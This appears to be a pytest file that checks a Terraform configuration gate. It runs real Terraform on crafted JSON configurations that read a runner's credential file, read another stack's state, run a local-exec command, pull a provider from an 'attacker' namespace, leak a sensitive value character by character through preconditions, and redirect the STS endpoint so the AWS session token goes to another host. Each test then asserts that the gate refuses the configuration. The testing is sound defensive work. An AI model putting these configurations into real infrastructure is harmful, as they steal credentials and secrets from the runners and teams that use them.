"""Terraform 1.11 does what each bypass form says, and the configuration gate refuses it.

Each test writes one ``cdk.tf.json`` in a form the old gate let through, runs the real
``terraform`` on it offline (built-in providers, or hashicorp/aws from the mirror), shows
the effect (a file read into the plan, another state read, a command run, a provider
from another namespace, the session's token sent to another host, a sensitive value
printed by an error), and checks that the gate refuses the same text (or, for a value
only a state holds, the reference that would carry it) with a line naming where.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.config_gate import naming, refusals_of_text
from tests.fake_cloudflare import FakeCloudflare

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.integration.harness import Workspace

pytestmark = pytest.mark.terraform

RUNNER_TEXT = "top-secret-from-the-runner"


def write(workspace: Workspace, text: str) -> None:
    workspace.directory.mkdir(parents=True, exist_ok=True)
    (workspace.directory / "cdk.tf.json").write_text(text, encoding="utf-8")


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A file on the runner that no configuration should read."""
    path = tmp_path / "credentials"
    path.write_text(RUNNER_TEXT, encoding="utf-8")
    return path


def outputs_planned(workspace: Workspace) -> str:
    workspace.terraform("init", "-input=false")
    return workspace.terraform("plan", "-input=false").stdout


def test_a_function_call_in_an_object_key_reads_a_file(
    workspace: Workspace, secret_file: Path
) -> None:
    key = f'${{file("{secret_file}")}}'
    text = json.dumps(
        {"locals": [{"k": {key: 1}}], "output": {"leak": {"value": "${keys(local.k)}"}}}
    )
    write(workspace, text)
    assert RUNNER_TEXT in outputs_planned(workspace)
    found = naming(refusals_of_text(text), f"locals[0].k[{json.dumps(key)}]")
    assert any("'s name calls `file()`" in line for line in found)


def test_a_for_directive_reads_a_file(workspace: Workspace, secret_file: Path) -> None:
    value = f'%{{ for line in split("\\n", file("{secret_file}")) }}${{line}}%{{ endfor }}'
    text = json.dumps({"output": {"leak": {"value": value}}})
    write(workspace, text)
    assert RUNNER_TEXT in outputs_planned(workspace)
    assert any(
        "calls `file()`" in line for line in naming(refusals_of_text(text), "output.leak.value")
    )


def test_terraform_reads_both_copies_of_a_repeated_top_level_key(
    workspace: Workspace, secret_file: Path
) -> None:
    first = json.dumps({"shown": {"value": "harmless"}})
    second = json.dumps({"leak": {"value": f'${{file("{secret_file}")}}'}})
    text = f'{{"output": {second}, "output": {first}}}'
    assert json.loads(text) == {"output": {"shown": {"value": "harmless"}}}  # what Python sees
    write(workspace, text)
    assert RUNNER_TEXT in outputs_planned(workspace)
    assert any("is written twice" in line for line in naming(refusals_of_text(text), "output"))


def test_a_data_array_reads_another_state(workspace: Workspace, tmp_path: Path) -> None:
    other = tmp_path / "other.tfstate"
    other.write_text(
        json.dumps(
            {
                "version": 4,
                "terraform_version": "1.11.0",
                "serial": 1,
                "lineage": "another-stack",
                "outputs": {"token": {"value": RUNNER_TEXT, "type": "string"}},
                "resources": [],
            }
        ),
        encoding="utf-8",
    )
    text = json.dumps(
        {
            "data": [
                {
                    "terraform_remote_state": {
                        "other": {"backend": "local", "config": {"path": str(other)}}
                    }
                }
            ],
            "output": {"leak": {"value": "${data.terraform_remote_state.other.outputs.token}"}},
        }
    )
    write(workspace, text)
    assert RUNNER_TEXT in outputs_planned(workspace)
    assert naming(refusals_of_text(text), "data[0].terraform_remote_state")


def test_a_provisioner_inside_a_resource_array_runs_a_command(
    workspace: Workspace, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    provisioner = {"local-exec": {"command": f"echo ran > {marker}"}}
    text = json.dumps({"resource": [{"terraform_data": {"x": [{"provisioner": [provisioner]}]}}]})
    write(workspace, text)
    workspace.terraform("init", "-input=false")
    workspace.terraform("apply", "-input=false", "-auto-approve")
    assert marker.read_text(encoding="utf-8") == "ran\n"
    assert naming(refusals_of_text(text), "resource[0].terraform_data.x[0].provisioner")


def test_a_required_providers_array_takes_aws_from_another_namespace(workspace: Workspace) -> None:
    text = json.dumps(
        {
            "terraform": {
                "required_providers": [{"aws": {"source": "attacker/aws", "version": "1.0.0"}}]
            }
        }
    )
    write(workspace, text)
    assert "provider[registry.terraform.io/attacker/aws]" in workspace.terraform("providers").stdout
    assert naming(refusals_of_text(text), "terraform.required_providers[0].aws.source")


def test_a_condition_on_a_sensitive_value_tells_it_a_character_at_a_time(
    workspace: Workspace,
) -> None:
    checks = [
        {"condition": f'${{substr(local.s, 0, 1) != "{char}"}}', "error_message": f"FIRST={char}"}
        for char in "xyt"
    ]
    text = json.dumps(
        {
            "locals": {"s": f'${{sensitive("{RUNNER_TEXT}")}}'},
            "resource": {"terraform_data": {"x": {"lifecycle": {"precondition": checks}}}},
        }
    )
    write(workspace, text)
    workspace.terraform("init", "-input=false")
    planned = workspace.terraform("plan", "-input=false", check=False)
    messages = {line.strip() for line in planned.stderr.splitlines()}
    assert "FIRST=t" in messages
    assert "FIRST=x" not in messages
    client = "aws_cognito_user_pool_client.c"
    oracle = {"condition": '${substr(self.client_secret, 0, 1) != "t"}', "error_message": "t"}
    copied = {
        "resource": {
            "aws_cognito_user_pool_client": {"c": {"lifecycle": {"postcondition": [oracle]}}}
        }
    }
    found = naming(
        refusals_of_text(json.dumps(copied)),
        f"resource.{client}.lifecycle.postcondition[0].condition",
    )
    assert any("self" in line for line in found), found


def test_a_functions_error_prints_a_sensitive_argument(workspace: Workspace) -> None:
    value = f'${{cidrhost(sensitive("{RUNNER_TEXT}"), 1)}}'
    text = json.dumps({"output": {"o": {"value": value, "sensitive": True}}})
    write(workspace, text)
    workspace.terraform("init", "-input=false")
    planned = workspace.terraform("plan", "-input=false", check=False)
    assert planned.returncode != 0
    assert f"address: {RUNNER_TEXT}" in planned.stderr
    assert any(
        "print its arguments" in line for line in naming(refusals_of_text(text), "output.o.value")
    )


def test_a_providers_validation_prints_a_sensitive_value(
    workspace: Workspace, aws_version: str
) -> None:
    """hashicorp/aws names the value it refuses, sensitive or not: a copied secret is printed."""
    client = {
        "name": "x",
        "user_pool_id": "eu-west-1_AbC123",
        "allowed_oauth_flows": [f'${{sensitive("{RUNNER_TEXT}")}}'],
    }
    aws = {"source": "hashicorp/aws", "version": aws_version}
    text = json.dumps(
        {
            "terraform": {"required_providers": {"aws": aws}},
            "provider": {"aws": [{"region": "eu-west-1"}]},
            "resource": {"aws_cognito_user_pool_client": {"c": client}},
        }
    )
    write(workspace, text)
    workspace.terraform("init", "-input=false")
    validated = workspace.terraform("validate", check=False)
    assert f'got: "{RUNNER_TEXT}"' in " ".join(validated.stderr.split())
    copied = json.loads(text)
    copied["resource"]["aws_cognito_user_pool_client"]["c"]["allowed_oauth_flows"] = [
        "${aws_cognito_user_pool_client.other.client_secret}"
    ]
    found = refusals_of_text(json.dumps(copied))
    path = "resource.aws_cognito_user_pool_client.c.allowed_oauth_flows[0]"
    assert any("the secret" in line for line in naming(found, path)), found


@pytest.fixture
def other_host() -> Iterator[FakeCloudflare]:
    """A host that is not AWS: the suite's fake Cloudflare API, which records every request."""
    with FakeCloudflare("0" * 32, "not-the-sessions-token") as host:
        yield host


def test_a_provider_array_sends_the_sessions_credentials_to_another_host(
    workspace: Workspace,
    aws_version: str,
    other_host: FakeCloudflare,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    session = "the-plan-roles-session-token"
    for name, value in {
        "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "AWS_SESSION_TOKEN": session,
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_CONFIG_FILE": "/dev/null",
        "AWS_SHARED_CREDENTIALS_FILE": "/dev/null",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    aws = {"source": "hashicorp/aws", "version": aws_version}
    redirected = {
        "region": "eu-west-1",
        "max_retries": 1,
        "endpoints": [{"sts": other_host.base_url.removesuffix("/client/v4")}],
    }
    text = json.dumps(
        {
            "terraform": {"required_providers": {"aws": aws}},
            "provider": [{"aws": [redirected]}],
            "resource": {"aws_cognito_user_pool": {"pool": {"name": "x"}}},
        }
    )
    write(workspace, text)
    workspace.terraform("init", "-input=false")
    planned = workspace.terraform("plan", "-input=false", check=False)
    sent = [request.headers.get("X-Amz-Security-Token") for request in other_host.requests]
    assert session in sent, planned.stderr
    assert naming(refusals_of_text(text), "provider[0].aws[0].endpoints")
